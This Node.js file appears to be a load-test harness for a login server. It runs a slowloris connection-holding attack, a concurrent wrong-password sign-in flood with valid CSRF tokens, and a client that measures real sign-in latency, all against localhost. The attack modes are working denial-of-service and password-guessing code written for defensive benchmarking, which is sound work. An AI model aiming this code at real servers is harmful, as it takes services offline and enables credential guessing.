// attack.mjs — the attackers and the legitimate client of bench/slowloris.sh
// and bench/signin_flood.sh (issue 8).  Node's own modules only.  Client
// addresses are 127.0.0.x / 127.0.y.x: Linux routes all of 127/8 to the
// loopback, so each bound local address is a distinct client to the server.
//
//   node attack.mjs slowloris PORT ADDRS PER_ADDR INTERVAL_S SECONDS FIRST_ADDR
//       holds ADDRS × PER_ADDR connections that send a request line, then one
//       header line every INTERVAL_S, never finishing; a connection the server
//       closes (or refuses) is opened again.  Prints each second
//       "SLOW held=N opened=N closed_by_server=N" and at the end a summary.
//   node attack.mjs flood PORT ADDRS CONCURRENT SECONDS RUC FIRST_ADDR
//       ADDRS addresses × CONCURRENT sign-ins with wrong passwords in flight
//       all the time (unknown users and a real one's wrong password, as a
//       guesser would), each with a valid pre-session token.  Prints
//       "FLOOD sent=N by_status={...}".
//   node attack.mjs signins PORT RUC USUARIO CLAVE COUNT LOCAL_ADDR
//       COUNT real sign-ins one after the other from LOCAL_ADDR; the
//       latency of each POST /login (a 303 to /oce counts; anything else is
//       reported).  Prints "SIGNINS ok=N other={...} p50_ms= p90_ms= p99_ms= max_ms=".
import http from 'node:http';
import net from 'node:net';

const [mode, ...args] = process.argv.slice(2);
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

/* 127.0.0.10 + k, spilling into 127.0.1.x etc. */
function addrAt(first, k) {
  const p = first.split('.').map(Number);
  let n = ((p[1] * 256 + p[2]) * 256 + p[3]) + k;
  const d = n % 256; n = Math.floor(n / 256);
  const c = n % 256; n = Math.floor(n / 256);
  return `127.${n % 256}.${c}.${d}`;
}

function request(port, localAddress, method, path, headers = {}, body) {
  return new Promise((resolve) => {
    const t0 = process.hrtime.bigint();
    const req = http.request({ host: '127.0.0.1', port, localAddress, method, path, agent: false,
      headers: { Connection: 'close', ...headers } }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (d) => { text += d; });
      res.on('end', () => resolve({ status: res.statusCode, headers: res.headers, text,
        ms: Number(process.hrtime.bigint() - t0) / 1e6 }));
    });
    req.on('error', (e) => resolve({ status: e.code || 'error', ms: Number(process.hrtime.bigint() - t0) / 1e6 }));
    req.setTimeout(60000, () => req.destroy(new Error('timeout')));
    if (body) req.write(body);
    req.end();
  });
}

/* A pre-session token (form field = cookie value) for an address. */
async function preToken(port, addr) {
  for (;;) {
    const r = await request(port, addr, 'GET', '/');
    const m = /name="csrf" value="([0-9a-f]+)"/.exec(r.text ?? '');
    const cookie = (r.headers?.['set-cookie'] ?? []).map((c) => c.split(';')[0]).join('; ');
    if (r.status === 200 && m) return { csrf: m[1], cookie };
    await sleep(200);
  }
}

function form(o) { return new URLSearchParams(o).toString(); }

async function slowloris([port, addrs, per, interval, seconds, first = '127.0.0.10']) {
  port = Number(port); addrs = Number(addrs); per = Number(per);
  interval = Number(interval) * 1000; seconds = Number(seconds);
  let held = 0, opened = 0, closedByServer = 0, peak = 0;
  const end = Date.now() + seconds * 1000;
  const one = (addr) => new Promise((resolve) => {
    const s = net.connect({ port, host: '127.0.0.1', localAddress: addr });
    let timer = null, up = false, mine = false;
    s.on('connect', () => {
      up = true; held++; opened++; peak = Math.max(peak, held);
      s.write('GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n');
      timer = setInterval(() => {
        if (Date.now() > end) { mine = true; s.destroy(); return; }
        s.write(`X-Slow-${Math.floor(Math.random() * 1e6)}: 1\r\n`);
      }, interval);
    });
    s.on('data', () => {});
    s.on('error', () => {});
    s.on('close', () => {
      if (timer) clearInterval(timer);
      if (up) { held--; if (!mine) closedByServer++; } else closedByServer++;
      resolve();
    });
  });
  const loops = [];
  for (let a = 0; a < addrs; a++) {
    const addr = addrAt(first, a);
    for (let i = 0; i < per; i++) {
      loops.push((async () => {
        await sleep(Math.random() * 1000);   // not all at once
        while (Date.now() < end) {
          await one(addr);
          await sleep(50);
        }
      })());
    }
  }
  const tick = setInterval(() => console.log(`SLOW held=${held} opened=${opened} closed_by_server=${closedByServer}`), 1000);
  await Promise.all(loops);
  clearInterval(tick);
  console.log(`SLOWSUM peak_held=${peak} opened=${opened} closed_by_server=${closedByServer}`);
}

async function flood([port, addrs, conc, seconds, ruc, first = '127.0.1.10']) {
  port = Number(port); addrs = Number(addrs); conc = Number(conc);
  const end = Date.now() + Number(seconds) * 1000;
  const byStatus = {};
  let sent = 0;
  const loops = [];
  process.on('SIGTERM', () => {
    console.log(`FLOOD sent=${sent} by_status=${JSON.stringify(byStatus)}`);
    process.exit(0);
  });
  for (let a = 0; a < addrs; a++) {
    const addr = addrAt(first, a);
    loops.push((async () => {
      const pre = await preToken(port, addr);
      const workers = [];
      for (let i = 0; i < conc; i++) {
        workers.push((async () => {
          let k = 0;
          while (Date.now() < end) {
            const usuario = k++ % 2 ? `nadie${a}x${i}x${k}` : 'naviera';
            const body = form({ ruc, usuario, clave: `Mala.${a}.${i}.${k}`, csrf: pre.csrf });
            const r = await request(port, addr, 'POST', '/login', { Cookie: pre.cookie,
              'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': Buffer.byteLength(body) }, body);
            sent++;
            byStatus[r.status] = (byStatus[r.status] ?? 0) + 1;
            if (r.status === 429) await sleep(Math.min(1000, Number(r.headers?.['retry-after'] ?? 1) * 1000));
          }
        })());
      }
      await Promise.all(workers);
    })());
  }
  await Promise.all(loops);
  console.log(`FLOOD sent=${sent} by_status=${JSON.stringify(byStatus)}`);
}

function pct(v, p) {
  if (!v.length) return NaN;
  const s = [...v].sort((x, y) => x - y);
  return s[Math.min(s.length - 1, Math.ceil(p / 100 * s.length) - 1)];
}

async function signins([port, ruc, usuario, clave, count, addr]) {
  port = Number(port); count = Number(count);
  const pre = await preToken(port, addr);
  const ms = [], other = {};
  for (let i = 0; i < count; i++) {
    const body = form({ ruc, usuario, clave, csrf: pre.csrf });
    const r = await request(port, addr, 'POST', '/login', { Cookie: pre.cookie,
      'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': Buffer.byteLength(body) }, body);
    if (r.status === 303 && r.headers.location === '/oce') ms.push(r.ms);
    else other[r.status] = (other[r.status] ?? 0) + 1;
    await sleep(50);
  }
  const f = (x) => x.toFixed(1);
  console.log(`SIGNINS ok=${ms.length} other=${JSON.stringify(other)} p50_ms=${f(pct(ms, 50))} ` +
    `p90_ms=${f(pct(ms, 90))} p99_ms=${f(pct(ms, 99))} max_ms=${f(Math.max(...ms))}`);
}

const modes = { slowloris, flood, signins };
if (!modes[mode]) {
  console.error('usage: node attack.mjs slowloris|flood|signins ...');
  process.exit(2);
}
await modes[mode](args);
